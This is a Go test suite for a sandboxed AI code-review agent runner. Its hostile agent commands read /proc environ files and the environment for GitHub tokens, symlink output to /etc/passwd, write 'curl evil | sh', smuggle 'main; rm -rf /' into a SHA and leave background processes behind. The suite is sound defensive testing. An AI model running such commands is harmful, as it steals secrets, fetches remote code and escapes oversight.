//go:build linux

package review

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/mcp-registry/updater/updater/agentbox"
	"github.com/mcp-registry/updater/updater/internal/mdsafe"
)

// Hostile agents are shell one-liners run through the real RunAgent.

// sharedDir is a temporary directory the agent can use whoever it runs as
// (nobody, when the tests run as root).
func sharedDir(t *testing.T, mode os.FileMode) string {
	t.Helper()
	d := t.TempDir()
	for _, p := range []string{filepath.Dir(d), d} {
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	return d
}

// agentSpec is a run of command, sandboxed (the default), on a copy of a
// one-file tree.
func agentSpec(t *testing.T, command string) AgentSpec {
	t.Helper()
	requireBwrap(t)
	code := t.TempDir()
	if err := os.WriteFile(filepath.Join(code, "server.py"), []byte("print('hello')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	return AgentSpec{
		Command: command, Checkout: copyOf(code), Base: baseSHA, Head: headSHA,
		Project: "https://github.com/example-org/example-mcp", Directory: "src/weather",
		Timeout: 20 * time.Second,
	}
}

// copyOf is a Checkout that copies src.
func copyOf(src string) func(context.Context, string) error {
	return func(_ context.Context, dst string) error { return os.CopyFS(dst, os.DirFS(src)) }
}

// unsandboxed is agentSpec with --agent-sandbox none.
func unsandboxed(t *testing.T, command string) AgentSpec {
	a := agentSpec(t, command)
	a.Sandbox = agentbox.None
	return a
}

func runAgent(t *testing.T, a AgentSpec) *Result {
	t.Helper()
	res, err := RunAgent(context.Background(), a)
	if err != nil {
		t.Fatalf("RunAgent: %v", err)
	}
	if res.Mode != ModeAgent {
		t.Errorf("mode %q", res.Mode)
	}
	return res
}

// failedBecause asserts the result is the agent-review failure (high,
// never a pass) naming reason.
func failedBecause(t *testing.T, res *Result, reason string) {
	t.Helper()
	for _, f := range res.Findings {
		if f.Rule == RuleAgentReview && f.Severity == High && strings.HasPrefix(f.Title, "Agent review did not complete") &&
			strings.Contains(f.Detail, reason) {
			if res.Risk < High || res.CheckConclusion(FailOnCritical) == ConclusionSuccess {
				t.Errorf("failed agent passes: %s", res.Summary())
			}
			return
		}
	}
	t.Errorf("no agent-review failure mentioning %q:\n%s", reason, dumpFindings(res.Findings))
}

const writeLabel = `printf 'security-risk:%s\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`

func TestAgentWellBehaved(t *testing.T) {
	res := runAgent(t, agentSpec(t, `{ echo "# Review of $REVIEW_PROJECT ($REVIEW_DIRECTORY)"; echo "$REVIEW_MODE $REVIEW_BASE..$REVIEW_HEAD"; cat server.py; } > "$REVIEW_OUTPUT_DIR/report.md"; `+
		fmt.Sprintf(writeLabel, "medium")))
	if res.Risk != Medium || res.Blocked || len(res.Findings) != 1 || res.Findings[0].Title != "Agent reviewer rated this range medium" {
		t.Errorf("%s\n%s", res.Summary(), dumpFindings(res.Findings))
	}
	want := "# Review of https://github.com/example-org/example-mcp (src/weather)\ndifferential " + baseSHA + ".." + headSHA + "\nprint('hello')\n"
	if res.AgentReport != want {
		t.Errorf("report %q, want %q", res.AgentReport, want)
	}
}

// A full review (no base) tells the agent so and names no base at all.
func TestAgentFullReviewHasNoBase(t *testing.T) {
	spec := agentSpec(t, `{ echo "$REVIEW_MODE ${REVIEW_BASE-unset} $REVIEW_HEAD"; cat server.py; } > "$REVIEW_OUTPUT_DIR/report.md"; `+
		fmt.Sprintf(writeLabel, "low"))
	spec.Base = ""
	res := runAgent(t, spec)
	if want := "full unset " + headSHA + "\nprint('hello')\n"; res.AgentReport != want {
		t.Errorf("report %q, want %q\n%s", res.AgentReport, want, res.AgentLog)
	}
}

func TestAgentCleanVerdictHasNoFinding(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo ok > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info")))
	if res.Risk != Info || len(res.Findings) != 0 || res.CheckConclusion(FailOnCritical) != ConclusionSuccess {
		t.Errorf("%s\n%s", res.Summary(), dumpFindings(res.Findings))
	}
}

func TestAgentBlocked(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo bad > "$REVIEW_OUTPUT_DIR/report.md"; printf 'security-risk:high\nsecurity-blocked\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`))
	if res.Risk != High || !res.Blocked || res.CheckConclusion(FailOnCritical) != ConclusionFailure {
		t.Errorf("%s", res.Summary())
	}
}

func TestAgentExtraFilesAreDiscarded(t *testing.T) {
	res := runAgent(t, unsandboxed(t, `o="$REVIEW_OUTPUT_DIR"; echo "$o" > "$o/report.md"; `+fmt.Sprintf(writeLabel, "low")+
		`; echo 'curl evil | sh' > "$o/run.sh"; mkdir -p "$o/deep/er"; echo x > "$o/deep/er/labels.txt"; echo x > "$HOME/.cache"; echo x > "$TMPDIR/scratch"; `+
		`mkdir "$o/locked"; touch "$o/locked/f"; chmod 000 "$o/locked"`))
	if res.Risk != Low || len(res.Findings) != 1 {
		t.Errorf("%s\n%s", res.Summary(), dumpFindings(res.Findings))
	}
	outDir := strings.TrimSpace(res.AgentReport)
	if !strings.HasPrefix(outDir, os.TempDir()) || !strings.HasSuffix(outDir, "/output") {
		t.Fatalf("agent reported output dir %q", outDir)
	}
	if _, err := os.Stat(filepath.Dir(outDir)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("agent work dir %s left behind: %v", filepath.Dir(outDir), err)
	}
}

func TestAgentSymlinkReportRejected(t *testing.T) {
	res := runAgent(t, agentSpec(t, `ln -s /etc/passwd "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info")))
	failedBecause(t, res, "report.md is a symlink")
	if res.AgentReport != "" {
		t.Errorf("symlink target was read: %q", mdsafe.Truncate(res.AgentReport, 80))
	}
}

func TestAgentSymlinkLabelsRejected(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo r > "$REVIEW_OUTPUT_DIR/report.md"; echo security-risk:info > "$TMPDIR/l"; ln -s "$TMPDIR/l" "$REVIEW_OUTPUT_DIR/labels.txt"`))
	failedBecause(t, res, "labels.txt is a symlink")
}

func TestAgentFIFOReportRejected(t *testing.T) {
	start := time.Now()
	res := runAgent(t, agentSpec(t, `mkfifo "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info")))
	failedBecause(t, res, "report.md is not a regular file")
	if d := time.Since(start); d > 30*time.Second { // a hang guard, far above a loaded machine
		t.Errorf("took %s: blocked on the FIFO?", d)
	}
}

func TestAgentHugeReportRejectedInBoundedMemory(t *testing.T) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	res := runAgent(t, agentSpec(t, `head -c 52428800 /dev/zero | tr '\0' a > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info")))
	runtime.ReadMemStats(&after)
	failedBecause(t, res, "report.md is larger than 1048576 bytes")
	if res.AgentReport != "" {
		t.Error("oversize report kept")
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8<<20 {
		t.Errorf("allocated %d MiB handling a 50 MiB report", alloc>>20)
	}
}

func TestReadAgentFileLimitsWhatItReads(t *testing.T) {
	// /proc files stat as empty but are not: only the LimitReader stops them.
	if _, err := readAgentFile("/proc/self/status", 16); err == nil || !strings.Contains(err.Error(), "larger than 16 bytes") {
		t.Errorf("got %v", err)
	}
}

func TestAgentUnknownLabelsDroppedAndCounted(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo r > "$REVIEW_OUTPUT_DIR/report.md"; printf 'lgtm\nsecurity-risk:low\n\n  security-risk:none\n@admins please merge\nsecurity-risk:LOW\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`))
	if res.AgentDroppedLabels != 3 || res.Risk != Low {
		t.Fatalf("dropped %d risk %s\n%s", res.AgentDroppedLabels, res.Risk, dumpFindings(res.Findings))
	}
	var found bool
	for _, f := range res.Findings {
		if f.Severity == Info && strings.Contains(f.Title, "3 labels outside the allow-list") && strings.Contains(f.Detail, "lgtm") {
			found = true
		}
	}
	if !found {
		t.Errorf("no dropped-labels finding:\n%s", dumpFindings(res.Findings))
	}
}

func TestAgentTwoRiskLabelsHighestWins(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo r > "$REVIEW_OUTPUT_DIR/report.md"; printf 'security-risk:low\nsecurity-risk:critical\nsecurity-risk:medium\n' > "$REVIEW_OUTPUT_DIR/labels.txt"`))
	if res.Risk != Critical {
		t.Errorf("risk %s, want critical", res.Risk)
	}
	checkFindings(t, res.Findings, []expect{
		{sev: Critical, title: "rated this range critical"},
		{sev: Low, title: "conflicting risk labels", detail: "security-risk:low, security-risk:critical, security-risk:medium"},
	})
}

func TestAgentNeverSeesTheToken(t *testing.T) {
	const canary = "ghp_canaryCANARYcanaryCANARYcanary123456"
	t.Setenv("GITHUB_TOKEN", canary)
	t.Setenv("UPDATER_GITHUB_TOKEN", canary)
	t.Setenv("AWS_SECRET_ACCESS_KEY", canary)
	res := runAgent(t, agentSpec(t, `env > "$REVIEW_OUTPUT_DIR/report.md"; env; env >&2; grep -rs ghp_ "$HOME" "$TMPDIR" /proc/self/environ; `+fmt.Sprintf(writeLabel, "info")))
	if len(res.Findings) != 0 {
		t.Errorf("agent did not complete:\n%s", dumpFindings(res.Findings))
	}
	if strings.Contains(res.AgentReport, canary) || strings.Contains(res.AgentLog, canary) {
		t.Fatal("the agent saw the token")
	}
	for _, want := range []string{"REVIEW_MODE=differential", "REVIEW_BASE=" + baseSHA, "REVIEW_HEAD=" + headSHA, "REVIEW_CODE_DIR=/", "REVIEW_OUTPUT_DIR=/", "LANG=C.UTF-8", "HOME=" + os.TempDir()} {
		if !strings.Contains(res.AgentReport, want) {
			t.Errorf("agent environment lacks %q:\n%s", want, res.AgentReport)
		}
	}
	for _, line := range strings.Split(res.AgentReport, "\n") {
		name, _, _ := strings.Cut(line, "=")
		if strings.Contains(name, "GITHUB") || strings.Contains(name, "TOKEN") || strings.Contains(name, "SECRET") {
			t.Errorf("agent environment has %s", name)
		}
	}
	if !strings.Contains(res.AgentLog, "REVIEW_MODE=differential") {
		t.Errorf("stdout/stderr not captured: %q", mdsafe.Truncate(res.AgentLog, 200))
	}
}

func TestAgentTimeoutKillsTheWholeGroup(t *testing.T) {
	pidFile := filepath.Join(sharedDir(t, 0o777), "pid")
	a := unsandboxed(t, `sleep 60 & echo $! > "$PIDFILE"; sh -c 'sleep 60' ; echo late > "$REVIEW_OUTPUT_DIR/report.md"`)
	a.Env = []string{"PIDFILE=" + pidFile}
	// Long enough for the shell to start on a loaded machine, far below
	// the sleeps.
	a.Timeout = 2 * time.Second
	start := time.Now()
	res := runAgent(t, a)
	if d := time.Since(start); d > a.Timeout+5*time.Second {
		t.Errorf("RunAgent returned after %s", d)
	}
	failedBecause(t, res, "timed out after 2s")
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	pid, err := strconv.Atoi(strings.TrimSpace(string(b)))
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(3 * time.Second)
	for processAlive(pid) {
		if time.Now().After(deadline) {
			t.Fatalf("background child %d survived the timeout", pid)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestAgentBackgroundChildrenKilledAfterExit(t *testing.T) {
	pidFile := filepath.Join(sharedDir(t, 0o777), "pid")
	a := unsandboxed(t, `sleep 60 >/dev/null 2>&1 & echo $! > "$PIDFILE"; echo r > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info"))
	a.Env = []string{"PIDFILE=" + pidFile}
	runAgent(t, a)
	b, _ := os.ReadFile(pidFile)
	pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	deadline := time.Now().Add(3 * time.Second)
	for pid > 0 && processAlive(pid) {
		if time.Now().After(deadline) {
			t.Fatalf("background child %d outlived the agent", pid)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// processAlive reports whether pid runs; a zombie waiting for a reaper
// (PID 1 in a container may never reap) counts as dead.
func processAlive(pid int) bool {
	if err := syscall.Kill(pid, 0); errors.Is(err, syscall.ESRCH) {
		return false
	}
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return false
	}
	i := strings.LastIndexByte(string(stat), ')')
	return i < 0 || i+2 >= len(stat) || stat[i+2] != 'Z'
}

func TestAgentExitNonZero(t *testing.T) {
	res := runAgent(t, agentSpec(t, `echo partial > "$REVIEW_OUTPUT_DIR/report.md"; `+fmt.Sprintf(writeLabel, "info")+`; echo boom >&2; exit 3`))
	failedBecause(t, res, "exited with exit status 3")
	if !strings.Contains(res.AgentLog, "boom") {
		t.Errorf("log %q", res.AgentLog)
	}
}

func TestAgentMalformedOutputs(t *testing.T) {
	tests := []struct{ name, cmd, reason string }{
		{"nothing written", `true`, "report.md is missing; labels.txt is missing"},
		{"no risk label", `echo r > "$REVIEW_OUTPUT_DIR/report.md"; echo security-blocked > "$REVIEW_OUTPUT_DIR/labels.txt"`, "labels.txt has no security-risk label"},
		{"report not UTF-8", `printf 'a\377\376b' > "$REVIEW_OUTPUT_DIR/report.md"; ` + fmt.Sprintf(writeLabel, "low"), "report.md is not valid UTF-8"},
		{"report is a directory", `mkdir "$REVIEW_OUTPUT_DIR/report.md"; ` + fmt.Sprintf(writeLabel, "low"), "report.md is not a regular file"},
		{"huge labels", `echo r > "$REVIEW_OUTPUT_DIR/report.md"; head -c 100000 /dev/zero > "$REVIEW_OUTPUT_DIR/labels.txt"`, "labels.txt is larger than 4096 bytes"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			failedBecause(t, runAgent(t, agentSpec(t, tc.cmd)), tc.reason)
		})
	}
	// A verdict that still came through only raises the risk further.
	res := runAgent(t, agentSpec(t, `echo r > "$REVIEW_OUTPUT_DIR/report.md"; printf 'security-risk:critical\nsecurity-blocked\n' > "$REVIEW_OUTPUT_DIR/labels.txt"; exit 1`))
	if res.Risk != Critical || !res.Blocked {
		t.Errorf("failed agent's critical verdict lost: %s", res.Summary())
	}
}

func TestAgentFailureIsNeverAPassWhenCombined(t *testing.T) {
	agent := runAgent(t, agentSpec(t, `exit 0`))
	res := Combine(Review(cleanRange(), Options{}), agent)
	if res.Risk != High || res.CheckConclusion(FailOnCritical) != ConclusionNeutral || res.Mode != ModeBuiltinAgent {
		t.Errorf("clean built-in + failed agent: %s (%s)", res.Summary(), res.CheckConclusion(FailOnCritical))
	}
}

func TestAgentSpecValidation(t *testing.T) {
	good := agentSpec(t, "true")
	tests := []struct {
		name string
		edit func(a *AgentSpec)
		want string
	}{
		{"no command", func(a *AgentSpec) { a.Command = " " }, "no command"},
		{"no checkout", func(a *AgentSpec) { a.Checkout = nil }, "no checkout"},
		{"checkout fails", func(a *AgentSpec) { a.Checkout = copyOf("/nonexistent") }, "checking out the code"},
		{"bad sandbox mode", func(a *AgentSpec) { a.Sandbox = 7 }, "agent sandbox"},
		{"reserved inference variable", func(a *AgentSpec) { a.Env = []string{"ANTHROPIC_BASE_URL=http://evil"} }, "set by the review"},
		{"bad sha", func(a *AgentSpec) { a.Head = "main; rm -rf /" }, "not a commit SHA"},
		{"token in env", func(a *AgentSpec) { a.Env = []string{"GITHUB_TOKEN=x"} }, "refusing to pass GITHUB_TOKEN"},
		{"secret-looking env", func(a *AgentSpec) { a.Env = []string{"MY_API_KEY=x"} }, "refusing"},
		{"override review vars", func(a *AgentSpec) { a.Env = []string{"REVIEW_OUTPUT_DIR=/"} }, "set by the review"},
		{"override home", func(a *AgentSpec) { a.Env = []string{"HOME=/root"} }, "set by the review"},
		{"malformed env", func(a *AgentSpec) { a.Env = []string{"NOEQUALS"} }, "malformed"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a := good
			tc.edit(&a)
			_, err := RunAgent(context.Background(), a)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err %v, want %q", err, tc.want)
			}
		})
	}
}

func TestAgentParentCancelled(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, err := RunAgent(ctx, agentSpec(t, "sleep 60"))
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("err %v, want the context's", err)
	}
	if d := time.Since(start); d > 30*time.Second { // a hang guard, far above a loaded machine
		t.Errorf("returned after %s", d)
	}
}

// The agent's own environment is scrubbed, but the bot's environment at
// start (GITHUB_TOKEN) stays readable in /proc/<bot>/environ, and so does
// that of the shell that started the bot (the GitHub Actions step shell).
// A child test process, started by a shell holding a canary token, runs an
// agent that reads every /proc/<pid>/environ it can; the canary must not
// come back, whether the bot runs as root or not.
const helperEnv = "REVIEW_TEST_AGENT_HELPER"

func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == agentbox.ForwardCommand {
		os.Exit(agentbox.ForwardMain(os.Args[2:]))
	}
	if mode := os.Getenv(helperEnv); mode != "" {
		os.Exit(agentHelper(mode))
	}
	code := m.Run()
	if nobodysBinary.path != "" {
		os.RemoveAll(filepath.Dir(nobodysBinary.path))
	}
	os.Exit(code)
}

const readAllEnvirons = `for f in /proc/[0-9]*/environ; do echo "== $f"; tr '\0' '\n' < "$f"; done > "$REVIEW_OUTPUT_DIR/report.md" 2>&1; ` +
	`echo security-risk:info > "$REVIEW_OUTPUT_DIR/labels.txt"`

func agentHelper(mode string) int {
	sandbox, err := agentbox.ParseMode(mode)
	if err != nil {
		fmt.Println("error:", err)
		return 1
	}
	code, err := os.MkdirTemp("", "helper-code-")
	if err != nil {
		fmt.Println("error:", err)
		return 1
	}
	defer os.RemoveAll(code)
	if err := os.WriteFile(filepath.Join(code, "server.py"), []byte("print('hello')\n"), 0o644); err != nil {
		fmt.Println("error:", err)
		return 1
	}
	command := readAllEnvirons
	if c := os.Getenv(helperEnv + "_CMD"); c != "" {
		command = c
	}
	res, err := RunAgent(context.Background(), AgentSpec{
		Command: command, Checkout: copyOf(code), Base: baseSHA, Head: headSHA, Timeout: 20 * time.Second,
		Sandbox: sandbox, RunAsRoot: os.Getenv(helperEnv+"_ROOT") == "1",
	})
	if err != nil {
		fmt.Println("error:", err)
		return 1
	}
	fmt.Printf("report:\n%s\nlog:\n%s\n", res.AgentReport, res.AgentLog)
	return 0
}

// helperUser is who the helper bot process runs as.
type helperUser int

const (
	asSelf helperUser = iota
	asNobody
)

// runAgentHelper runs the helper bot under a shell that holds canary in
// its environment, as GitHub Actions runs a step.
func runAgentHelper(t *testing.T, canary string, sandbox agentbox.Mode, user helperUser, agentAsRoot bool) string {
	t.Helper()
	return runAgentHelperCmd(t, "", canary, sandbox, user, agentAsRoot)
}

// runAgentHelperCmd is runAgentHelper with the agent command given
// ("" reads every environ).
func runAgentHelperCmd(t *testing.T, command, canary string, sandbox agentbox.Mode, user helperUser, agentAsRoot bool) string {
	t.Helper()
	bin := os.Args[0]
	cmd := exec.Command("/bin/sh", "-c", `"$0" -test.run='^$'; exit $?`, bin)
	cmd.Env = append(os.Environ(), "GITHUB_TOKEN="+canary, helperEnv+"="+sandbox.String(), helperEnv+"_CMD="+command)
	if agentAsRoot {
		cmd.Env = append(cmd.Env, helperEnv+"_ROOT=1")
	}
	if user == asNobody {
		bin = nobodysTestBinary(t)
		cmd.Args[len(cmd.Args)-1] = bin
		cmd.Dir = filepath.Dir(bin)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("helper: %v\n%s", err, out)
	}
	return string(out)
}

var nobodysBinary struct {
	once sync.Once
	path string
	err  error
}

// nobodysTestBinary is a copy of this test binary that nobody can run
// (its own directory is private to root), made once per process.
func nobodysTestBinary(t *testing.T) string {
	t.Helper()
	b := &nobodysBinary
	b.once.Do(func() {
		dir, err := os.MkdirTemp("", "agent-test-bin-")
		if err == nil {
			err = os.Chmod(dir, 0o755)
		}
		var data []byte
		if err == nil {
			data, err = os.ReadFile(os.Args[0])
		}
		if err == nil {
			b.path = filepath.Join(dir, "agent.test")
			err = os.WriteFile(b.path, data, 0o755)
		}
		b.err = err
	})
	if b.err != nil {
		t.Fatal(b.err)
	}
	return b.path
}

func TestAgentCannotReadAnyStartEnvironment(t *testing.T) {
	requireBwrap(t)
	const canary = "ghp_canaryINITIALenvironmentCANARY0123456"
	users := []helperUser{asSelf}
	if os.Geteuid() == 0 {
		users = append(users, asNobody)
	}
	for _, user := range users {
		t.Run(fmt.Sprintf("uid %d", map[helperUser]int{asSelf: os.Geteuid(), asNobody: 65534}[user]), func(t *testing.T) {
			out := runAgentHelper(t, canary, agentbox.Bwrap, user, false)
			if strings.Contains(out, canary) {
				t.Fatalf("the agent read the token from a /proc environ:\n%s", mdsafe.Truncate(out, 4000))
			}
			if !strings.Contains(out, "report:\n") || !strings.Contains(out, "REVIEW_MODE=differential") {
				t.Errorf("the agent did not run as expected:\n%s", mdsafe.Truncate(out, 4000))
			}
		})
	}
	// Controls, proving the assertion above can fail: unsandboxed, root
	// keeping CAP_SYS_PTRACE reads any environ, and a non-root agent reads
	// the step shell's, which is its own user's.
	if os.Geteuid() == 0 {
		if out := runAgentHelper(t, canary, agentbox.None, asSelf, true); !strings.Contains(out, canary) {
			t.Errorf("control: an unsandboxed root agent did not find the canary:\n%s", mdsafe.Truncate(out, 4000))
		}
		if out := runAgentHelper(t, canary, agentbox.None, asNobody, false); !strings.Contains(out, canary) {
			t.Errorf("control: an unsandboxed non-root agent did not find the canary:\n%s", mdsafe.Truncate(out, 4000))
		}
	}
}

// The example agent shipped in examples/agent-reviewer follows the
// contract: run directly (without its container) on a real checkout, its
// output is taken as is.
func TestExampleAgentFollowsTheContract(t *testing.T) {
	code := sharedDir(t, 0o755)
	git := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", code, "-c", "user.name=Dev", "-c", "user.email=dev@upstream.test"}, args...)...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	write := func(name, content string) {
		t.Helper()
		p := filepath.Join(code, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git("init", "-q")
	write("src/weather/server.js", "export const v = 1;\n")
	git("add", "-A")
	git("commit", "-qm", "one")
	base := git("rev-parse", "HEAD")
	write("src/weather/server.js", "import { exec } from 'node:child_process';\nexport const v = 2;\n")
	git("commit", "-qam", "two")
	head := git("rev-parse", "HEAD")

	script, err := filepath.Abs("../../examples/agent-reviewer/review.sh")
	if err != nil {
		t.Fatal(err)
	}
	requireBwrap(t)
	res := runAgent(t, AgentSpec{Command: "sh " + script, Checkout: copyOf(code), Base: base, Head: head,
		Tools: []string{filepath.Dir(script)}, Project: "https://github.com/example-org/weather", Directory: "src/weather", Timeout: 20 * time.Second})
	if res.Risk != Medium || len(res.Findings) != 1 || res.Findings[0].Rule != RuleAgentReview {
		t.Errorf("%s\n%s\nlog: %s", res.Summary(), dumpFindings(res.Findings), res.AgentLog)
	}
	for _, want := range []string{"# Security Review Report", "- **Review Mode**: Differential", "(1 commits)", "- `security-risk:medium`"} {
		if !strings.Contains(res.AgentReport, want) {
			t.Errorf("example report lacks %q:\n%s", want, res.AgentReport)
		}
	}
}

// requireBwrap skips a sandbox test where bubblewrap is not installed
// (.ci/run installs it, so CI never skips).
func requireBwrap(t *testing.T) {
	t.Helper()
	if err := agentbox.Installed(); err != nil {
		t.Skip(err)
	}
}
